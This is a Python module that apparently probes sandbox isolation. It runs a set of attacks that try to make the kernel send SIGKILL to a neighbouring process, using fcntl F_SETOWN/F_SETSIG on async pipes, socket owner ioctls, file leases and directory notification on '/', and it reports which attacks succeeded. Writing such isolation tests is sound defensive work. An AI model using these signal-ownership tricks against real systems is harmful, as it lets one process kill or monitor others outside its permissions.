import fcntl
import os
import signal
import socket
import struct

SETOWN, SETSIG, SETOWN_EX, SETLEASE, NOTIFY = 8, 10, 15, 1024, 1026
FIOASYNC, FIOSETOWN, SIOCSPGRP = 0x5452, 0x8901, 0x8902


def arm(set_owner):
    """Make the neighbour the owner and the signal deadly, then let something happen."""

    def attack(facts):
        end, start = os.pipe()
        set_owner(end, facts["neighbour_pid"])
        fcntl.fcntl(end, SETSIG, signal.SIGKILL)
        fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(start, b"x")
        return fcntl.fcntl(end, fcntl.F_GETOWN) == facts["neighbour_pid"]

    return attack


def owner_of_socket(request):
    def attack(facts):
        pair = socket.socketpair()
        fcntl.ioctl(pair[0], request, struct.pack("i", facts["neighbour_pid"]))
        return True

    return attack


def lease(facts):
    open("leased", "w").close()
    fd = os.open("leased", os.O_RDONLY)
    fcntl.fcntl(fd, SETLEASE, fcntl.F_RDLCK)
    return True


ATTACKS = {
    "owner": arm(lambda fd, pid: fcntl.fcntl(fd, SETOWN, pid)),
    "its group": arm(lambda fd, pid: fcntl.fcntl(fd, SETOWN, -pid)),
    "owner by kind": arm(lambda fd, pid: fcntl.fcntl(fd, SETOWN_EX, struct.pack("ii", 1, pid))),
    "owner of a socket": owner_of_socket(FIOSETOWN),
    "group of a socket": owner_of_socket(SIOCSPGRP),
    "lease": lease,
    "watch a folder": lambda facts: fcntl.fcntl(os.open("/", os.O_RDONLY), NOTIFY, 1),
}


def handle(payload):
    facts, achieved = payload["facts"], []
    for name, attack in ATTACKS.items():
        try:
            if attack(facts) is not False:
                achieved.append(name)
        except OSError:
            pass
    return {"tried": list(ATTACKS), "achieved": achieved}
